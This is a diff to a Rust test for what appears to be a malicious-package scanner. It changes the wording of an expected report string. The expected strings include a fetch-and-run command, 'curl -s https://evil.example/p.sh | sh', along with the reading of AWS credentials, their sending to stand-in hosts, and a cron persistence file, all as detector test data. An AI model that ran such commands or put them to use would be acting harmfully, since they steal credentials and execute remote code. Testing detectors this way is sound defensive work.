@@ -107,7 +107,7 @@ fn details_say_what_it_does_how_it_runs_and_what_is_new() {
     let r = full_report(Ecosystem::Npm, "1.0.1", "1.0.0", t(10));
     let d = &r.details;
     for expected in [
-        "The package reads credentials (`/root/.aws/credentials`) and sends them to evil.example and c2.evil.example, and runs commands (`sh -c curl -s https://evil.example/p.sh | sh`).",
+        "The package reads credentials (`/root/.aws/credentials`) and sends them over the network (it contacts evil.example and c2.evil.example), and runs commands (`sh -c curl -s https://evil.example/p.sh | sh`).",
         "This happens when the package is installed (its postinstall hook).",
         "New in 1.0.1 since 1.0.0: writes to `/etc/cron.d/evil`, writes to a temporary file, connections to `evil.example:443` and one more change.",
     ] {
